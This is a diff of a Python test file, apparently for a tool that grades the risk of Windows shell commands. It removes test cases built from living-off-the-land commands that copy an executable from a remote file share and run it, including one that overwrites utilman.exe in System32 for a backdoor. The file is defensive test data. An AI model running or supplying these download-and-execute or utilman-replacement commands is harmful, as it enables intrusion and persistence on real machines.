@@ -287,17 +287,7 @@ def test_cmd_values(command: str, shell: str, expected: object) -> None:
 
 
 # ---------------------------------------------------------------- blind19 decisions
-SHARE = "\\\\192.0.2.8\\pub\\"
 BLIND19_DECISIONS = [
-    # LOLBAS copy tools from a share: a download (moderate) unless the copy is run
-    ("extrac32 /C /Y " + SHARE + "t.exe C:\\Users\\Public\\t.exe", "cmd", M),
-    ("expand.exe " + SHARE + "t.cab %TEMP%\\t.exe", "cmd", M),
-    ("esentutl /y " + SHARE + "t.exe /d %TEMP%\\t.exe /o", "cmd", M),
-    ("findstr /V zz " + SHARE + "t.exe > %TEMP%\\t.exe", "cmd", M),
-    ("extrac32 /C /Y " + SHARE + "t.exe %TEMP%\\t.exe & %TEMP%\\t.exe", "cmd", C),
-    ("findstr /V zz " + SHARE + "t.exe > %TEMP%\\t.exe & %TEMP%\\t.exe", "cmd", C),
-    ("replace " + SHARE + "t.exe %TEMP% /A & %TEMP%\\t.exe", "cmd", C),
-    ("extrac32 /C /Y " + SHARE + "u.exe C:\\Windows\\System32\\utilman.exe", "cmd", C),
     # Windows' own Control Panel applets
     ("rundll32.exe shell32.dll,Control_RunDLL desk.cpl", "cmd", M),
     ("control sysdm.cpl", "cmd", M),
